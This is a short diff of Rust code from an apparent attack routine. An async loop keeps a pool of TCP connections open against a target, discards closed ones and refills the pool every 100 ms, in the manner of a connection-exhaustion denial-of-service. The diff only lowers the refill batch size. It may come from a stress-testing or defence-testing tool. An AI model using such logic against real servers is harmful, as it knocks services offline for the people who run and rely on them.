@@ -91,7 +91,7 @@ impl Attack {
             let mut held: Vec<TcpStream> = hostile::hold(to, HELD, &words).await;
             while !over.load(Ordering::Relaxed) {
                 held.retain(|peer| !matches!(peer.try_read(&mut [0; 4096]), Ok(0)));
-                held.extend(hostile::hold(to, (HELD - held.len()).min(20), &words).await);
+                held.extend(hostile::hold(to, (HELD - held.len()).min(5), &words).await);
                 tokio::time::sleep(Duration::from_millis(100)).await;
             }
         });
